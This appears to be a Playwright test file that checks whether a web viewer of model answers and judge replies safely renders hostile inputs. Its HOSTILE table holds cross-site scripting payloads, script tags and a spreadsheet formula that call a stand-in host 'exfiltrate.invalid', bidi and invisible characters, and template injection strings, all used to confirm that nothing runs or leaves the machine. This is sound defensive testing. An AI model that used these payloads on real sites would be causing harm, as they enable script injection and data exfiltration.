"""Answers that try something: shown inert, nothing leaves this machine, nothing runs, and the page stays usable."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Request, WebSocket, expect

from em_core.home import Home
from em_core.labels import Desk
from em_core.records import JudgeIdentity, Judgement, QuestionRow
from em_core.store.publish import publish
from tests.browser.conftest import Tabs, assert_fits, assert_no_error, serve, settle, shoot
from tests.responses import made_answers
from tests.responses.made_answers import J, answer
from tests.store import made

pytestmark = [pytest.mark.browser, pytest.mark.slow]

RUNS = "window.hacked = (window.hacked || 0) + 1"
AWAY = "http://exfiltrate.invalid"
HOSTILE = {
    "script": f"<script>{RUNS}; fetch('{AWAY}/script')</script>",
    "handlers": f"<img src={AWAY}/img.png onerror=\"{RUNS}\"><svg onload=\"{RUNS}\"><iframe src='{AWAY}/frame'></iframe>",
    "markdown image": f"![alt]({AWAY}/md.png) [link]({AWAY}/l) # heading **bold** `code` $x^2$ :red[red] :material/home:",
    "links": f"[a](javascript:{RUNS}) <a href='javascript:{RUNS}'>b</a> <base href='{AWAY}'> <meta http-equiv=refresh content='0;{AWAY}'>",
    "style": f"<style>* {{ display: none !important; background: url({AWAY}/css) }}</style>",
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;http://exfiltrate.invalid\x07link\x1b]8;;\x07",
    "direction": "before \u202eevil\u202c after \u2067isolate\u2069 \u200fmark",
    "nul and invisible": "a\x00b\u200bc\ufeffd\u00ade\U000e0041f",
    "accents": "Z" + "\u0301" * 3000 + " end of the tower",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> </textarea></template>-->",
    "one line of 5 MB": "w" * 5_000_000,
    "many lines": "\n" * 20_000 + "the end",
    "a formula": "=HYPERLINK(\"http://exfiltrate.invalid\";\"x\")",
}  # fmt: skip


BAD = " ".join(text for text in HOSTILE.values() if len(text) < 1000)
EVIL = "evil " + BAD[:300]
"""The judge that scored the hostile answers, and no other."""


def make_home(root: Path) -> Home:
    """Every hostile text as an answer, as a judge's reply, as a question and as a name."""
    answers = [answer("run-a", 20, f"q{i}", 0, text, "") for i, text in enumerate(HOSTILE.values())]
    home = made_answers.make_home(root, answers)
    made.write(home, "run-a", JudgeIdentity(EVIL, "made", BAD, "integer", "", "{}", ""))
    for i, one in enumerate(answers):
        made.write(
            home,
            "run-a",
            QuestionRow("general", "0", f"q{i}", 0, BAD, f"Question {i}? {BAD}", "", "free_form"),
            Judgement(one.response_id, EVIL, "alignment", 5.0, None, one.text[:50_000], f'{{"{AWAY}": 0.5}}', 1, 1),
        )
    publish(home)
    return home


class Watch:
    """Every request and dialog of a page; what goes elsewhere is noted (the tests' browser finds no other machine)."""

    def __init__(self, page: Page, address: str) -> None:
        self.away: list[str] = []
        self.dialogs: list[str] = []
        self.biggest = 0
        self._host = urlsplit(address).netloc
        page.on("request", self._request)  # `page.route` would see them too, and switch the browser's cache off
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.on("websocket", self._socket)
        page.on("popup", lambda popup: self.away.append(f"popup {popup.url}"))

    def _request(self, request: Request) -> None:
        if urlsplit(request.url).netloc != self._host and not request.url.startswith(("data:", "blob:")):
            self.away.append(request.url)

    def _socket(self, socket: WebSocket) -> None:
        if urlsplit(socket.url).netloc != self._host:
            self.away.append(socket.url)
        socket.on("framereceived", lambda payload: setattr(self, "biggest", max(self.biggest, len(payload))))

    def assert_calm(self, page: Page) -> None:
        """Nothing left, nothing ran, no message was big, and the page is as wide as the window."""
        assert self.away == []
        assert self.dialogs == []
        assert page.evaluate("window.hacked") is None
        assert self.biggest < 5_000_000, self.biggest
        assert_no_error(page)
        assert_fits(page)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Home:
    return make_home(tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def address(home: Home) -> Iterator[str]:
    with serve(home.root, EM_NO_SUPERVISOR="1") as found:
        yield found


@pytest.mark.parametrize("width", [1440, 420])
def test_hostile_answers_side_by_side_are_inert_and_the_others_readable(address: str, browser: Tabs, width: int) -> None:
    page = browser.new_page(viewport={"width": width, "height": 1000})
    watch = Watch(page, address)
    for number in (1, 2):
        page.goto(f"{address}/responses?column=run-a%4020&column=run-a%4010&judge={J}&page={number}")
        settle(page)
        watch.assert_calm(page)
        shoot(page, f"responses-hostile-{number}-{'wide' if width > 1000 else 'narrow'}")
        text = page.inner_text("[data-testid=stMain]")
        if number == 1:
            expect(page.get_by_text("run-a says at step 10 to q0: sample 0.", exact=True)).to_be_visible()
            assert "<script>" in text
            assert "![alt](http://exfiltrate.invalid/md.png)" in text
    page.close()


def test_every_hostile_text_alone_is_inert_and_hidden_characters_are_seen(address: str, browser: Tabs) -> None:
    page = browser.new_page(viewport={"width": 1440, "height": 1000})
    watch = Watch(page, address)
    for i, name in enumerate(HOSTILE):
        page.goto(f"{address}/responses?response={answer('run-a', 20, f'q{i}', 0, '', '').response_id}")
        settle(page)
        watch.assert_calm(page)
        text = page.inner_text("[data-testid=stMain]")
        assert "Where it comes from" in text, name
        for code in {"direction": ("⟪U+202E⟫",), "nul and invisible": ("⟪U+0000⟫", "⟪U+200B⟫"), "ansi": ("⟪U+001B⟫[2J",)}.get(
            name, ()
        ):
            assert code in text, name
        for character in ("\u202e", "\x00", "\x1b", "\u200b"):
            assert character not in text, name
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_hostile_words_are_marked_as_text(address: str, browser: Tabs, scheme: str) -> None:
    page = browser.new_page(viewport={"width": 1440 if scheme == "light" else 420, "height": 1000}, color_scheme=scheme)  # type: ignore[arg-type]
    watch = Watch(page, address)
    for number in (1, 2):
        page.goto(
            f"{address}/responses?column=run-a%4020&column=run-a%4010&baseline=run-a%4010&judge={J}&words=true&page={number}"
        )
        settle(page)
        if number == 1:
            expect(page.locator("ins").filter(has_text="fetch(").first).to_be_visible(timeout=20_000)
            shoot(page, f"responses-hostile-words-{scheme}")
        watch.assert_calm(page)
    page.close()


@pytest.mark.long
def test_every_hostile_text_held_against_another_answer_is_text(address: str, browser: Tabs) -> None:
    page = browser.new_page(viewport={"width": 420, "height": 1000})
    watch = Watch(page, address)
    base = answer("run-a", 10, "q0", 0, "", "").response_id
    for i, name in enumerate(HOSTILE):
        page.goto(f"{address}/responses?response={answer('run-a', 20, f'q{i}', 0, '', '').response_id}&words=true&against={base}")
        settle(page)
        expect(page.locator("ins:visible, del:visible").nth(2)).to_be_visible(timeout=20_000)
        watch.assert_calm(page)
        inside = "[...document.querySelectorAll('[data-testid=stBidiComponentRegular], [data-testid=stBidiComponentIsolated]')]"
        elements = f"{inside}.flatMap(e => [...(e.shadowRoot ?? e).querySelectorAll('p *')].map(c => c.tagName))"
        assert set(page.evaluate(elements)) <= {"INS", "DEL", "SPAN"}, name
    page.close()


def test_list_search_figure_and_replies_are_inert(address: str, browser: Tabs) -> None:
    page = browser.new_page(viewport={"width": 1440, "height": 1000})
    watch = Watch(page, address)
    for path in (
        f"view=list&of=everything+selected&judge={J}&search=exfiltrate",
        f"view=list&column=run-a%4020&judge={J}&search=%3Cscript%3E%24%7Balert(1)%7D",
        f"view=figure&column=run-a%4020&judge={J}",
        f"view=figure&column=run-a%4020&judge={J}&question=q1",
        f"column=run-a%4020&judge={J}&search=(%3Cimg&regex=true",
        "response=%3Cscript%3Ealert(1)%3C/script%3E",
        "column=%3Cimg%20src=x%20onerror=alert(1)%3E@5&question=%3Cscript%3E",
    ):
        page.goto(f"{address}/responses?{path}")
        settle(page)
        watch.assert_calm(page)
    page.goto(f"{address}/responses?column=run-a%4020&judge={J}")
    settle(page)
    page.locator("[data-testid=stMain] [data-testid=stPopover]:visible").filter(has_text="gavel").nth(1).get_by_role(
        "button"
    ).first.click()  # the reply of the judge with the evil name
    expect(page.locator("[data-testid=stPopoverBody] [data-testid=stDataFrame]")).to_be_visible(timeout=20_000)
    settle(page)
    watch.assert_calm(page)
    shoot(page, "responses-hostile-replies")
    page.close()


def test_labelling_hostile_answers_is_inert(home: Home, address: str, browser: Tabs) -> None:
    batch = Desk(home, "anna").draw(60, "random", judge_ids=[EVIL])
    assert len(batch.response_ids) == len(HOSTILE)
    page = browser.new_page(viewport={"width": 1440, "height": 1000})
    watch = Watch(page, address)
    page.goto(f"{address}/label?labeller=anna")
    settle(page)
    for done in range(1, len(batch.response_ids)):
        watch.assert_calm(page)
        page.keyboard.press("5")
        expect(page.get_by_text(f"{done} of {len(batch.response_ids)}", exact=True)).to_be_visible(timeout=20_000)
        settle(page)
    watch.assert_calm(page)
    page.close()
